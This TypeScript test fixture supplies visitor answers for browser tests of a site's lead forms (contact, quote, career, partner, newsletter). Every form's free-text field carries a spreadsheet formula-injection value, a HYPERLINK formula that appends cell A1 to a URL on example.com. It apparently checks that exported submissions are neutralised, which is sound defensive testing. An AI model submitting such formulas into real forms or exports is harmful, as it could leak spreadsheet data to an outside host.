import type { CallSpec, FormSchema, Payload } from '#shared/forms/types.ts';
import { withCurrentNames, isFile, readForm, sampleOf } from './site-forms.ts';

/** A lead form for browser tests: its page, and the answers of a visitor by field. */
export interface LeadForm {
  readonly form: string;
  readonly page: string;
  /** Path of its call under `/api`. */
  readonly call: string;
  readonly button: string;
  /** The button that opens its modal. */
  readonly opener?: string;
  readonly hasCaptcha?: boolean;
  readonly texts: Readonly<Record<string, string>>;
  /** Labels of the options to choose in select boxes. */
  readonly choices?: Readonly<Record<string, string>>;
  /** Labels of the radio buttons and boxes to tick. */
  readonly ticks?: readonly string[];
  /** Names of the documents to attach. */
  readonly files?: Readonly<Record<string, string>>;
  /** The stored values of the ticked fields. */
  readonly ticked?: Readonly<Record<string, unknown>>;
  /** Values from the complete sample for all other required fields. */
  readonly rest?: Payload;
}

/** The page of a form and the answers for fields that it may have. */
type Row = Pick<LeadForm, 'form' | 'page' | 'opener' | 'texts' | 'choices' | 'files' | 'ticked'>;

const person = { name: 'Asha Rao', email: 'asha.rao@example.com' };

/** The text of the submit button of a form of the site. */
export function buttonOf(form: string): string {
  const { 'ui:submitButtonOptions': button } = readForm(form, 'ui.json') as { 'ui:submitButtonOptions': { submitText: string } };
  return button.submitText;
}

/**
 * Adapts a row to the current form: renames fields, drops fields and options that it no longer has, and adds missing required fields
 * and documents.
 */
function adapt(row: Row): LeadForm {
  const { properties } = readForm(row.form, 'schema.json') as FormSchema;
  const { call } = readForm(row.form, 'submit.json') as { readonly call: CallSpec };
  const isAsked = ([name, value]: readonly [string, unknown]) =>
    properties[name]?.enum?.some((option) => option === value) ?? name in properties;
  const asked = <Value>(values: Readonly<Record<string, Value>> = {}): Record<string, Value> =>
    Object.fromEntries(Object.entries(withCurrentNames(row.form, values)).filter(isAsked));
  const answers = { texts: asked(row.texts), choices: asked(row.choices), ticked: asked(row.ticked), files: asked(row.files) };
  const named = { ...answers.texts, ...answers.choices, ...answers.ticked, ...answers.files };
  const missing = Object.entries(sampleOf(row.form)).filter(([name]) => !(name in named));
  const documents = missing.filter(([, value]) => isFile(value)).map(([name]) => [name, `${name}.pdf`] as const);
  return {
    ...row,
    ...answers,
    call: call.path,
    button: buttonOf(row.form),
    hasCaptcha: 'captcha' in properties,
    ticks: Object.entries(answers.ticked).map(([name, value]) => (value === true ? (properties[name]?.title ?? name) : String(value))),
    files: { ...answers.files, ...Object.fromEntries(documents) },
    rest: Object.fromEntries(missing.filter(([, value]) => !isFile(value))),
  };
}

/** A message that a spreadsheet would run as a formula. */
const FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")';

export const contact = adapt({
  form: 'contact',
  page: '/contact-us',
  texts: { ...person, phone: '9876543210', subject: 'A booking app', message: FORMULA },
});

export const quote = adapt({
  form: 'quote',
  page: '/get-a-quote',
  texts: { ...person, phone: '9876543210', message: FORMULA },
  choices: { service: 'QA Services', project_budget: '$10K - $25K' },
  files: { file: 'brief.pdf' },
});

export const career = adapt({
  form: 'career',
  page: '/career',
  texts: { ...person, phone: '9876543210', post: 'Flutter Developer', experience: '3 years', message: FORMULA },
  files: { file: 'cv.pdf' },
});

export const partner = adapt({
  form: 'partner',
  page: '/become-a-partner',
  opener: 'Apply Now',
  texts: { ...person, mobile: '919876543210', message: FORMULA },
});

export const associatePartner = adapt({
  form: 'associate-partner',
  page: '/become-partner-form',
  texts: {
    ...person,
    mobile: '919876543210',
    city: 'Pune',
    country: 'India',
    occupation: 'Sales manager',
    employer: 'Sunrise Traders',
    experience: '8 years',
    business_name: 'Rao and Sons',
    business_website: 'https://example.com',
    business_market: 'Clinics and schools in Maharashtra',
    motivation: FORMULA,
  },
  choices: { referral_source: 'Social Media' },
  files: { resume: 'resume.pdf', id_document: 'passport.pdf' },
  ticked: { gender: 'Female', availability: 'Part-time', contact_method: 'Phone', consent: true },
});

export const newsletter = adapt({
  form: 'newsletter',
  page: '/',
  texts: { email: person.email },
});

/** The payload that a form stores, without files. */
export function payloadOf({ texts, choices, ticked, rest }: LeadForm): Record<string, unknown> {
  return { ...texts, ...choices, ...ticked, ...rest };
}
